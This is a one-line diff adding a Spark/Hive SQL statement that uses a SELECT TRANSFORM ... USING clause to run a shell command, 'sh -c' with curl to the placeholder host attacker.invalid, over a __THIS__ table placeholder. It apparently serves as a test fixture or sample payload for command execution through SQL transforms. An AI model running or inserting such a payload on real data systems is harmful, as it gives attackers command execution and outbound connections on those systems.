@@ -1,0 +1,1 @@
+SELECT TRANSFORM(id) ROW FORMAT DELIMITED USING 'sh -c "curl attacker.invalid"' AS (o) FROM __THIS__
